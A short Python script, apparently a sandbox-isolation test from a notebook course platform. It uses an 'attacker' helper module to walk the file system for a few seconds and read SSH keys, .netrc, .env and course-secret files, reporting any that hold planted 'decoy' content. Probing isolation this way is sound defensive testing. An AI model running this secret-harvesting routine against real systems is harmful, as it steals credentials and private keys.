"""Walks through all of the file system for as long as a cell may, and reads every small file that could hold a secret."""

import os
import time
from contextlib import suppress
from pathlib import Path

from attacker import COURSE, HOME, tell

NEEDS_SANDBOX = True
NAMES = (".py", ".ipynb", ".json", ".html", ".netrc", ".db", ".yaml", ".env", "id_ed25519", ".course_secret")
SYSTEM = ("/proc", "/sys", "/usr", "/lib", "/opt", "/etc", "/var/lib")

end, roots = time.monotonic() + 4, (str(Path(HOME).parent), "/home", "/root", "/mnt", "/srv", "/run", "/tmp", "/data")
for root in (*roots, *(f"/proc/{pid}/root/{COURSE}" for pid in (1, os.getpid(), os.getppid())), "/"):
    for folder, inner, names in os.walk(root):
        inner[:] = [name for name in inner if os.path.join(folder, name) not in SYSTEM]
        if time.monotonic() > end:
            break
        for name in names:
            with suppress(OSError):
                if name.endswith(NAMES) and b"decoy" in (content := Path(folder, name).read_bytes()[:200_000]):
                    tell(content)
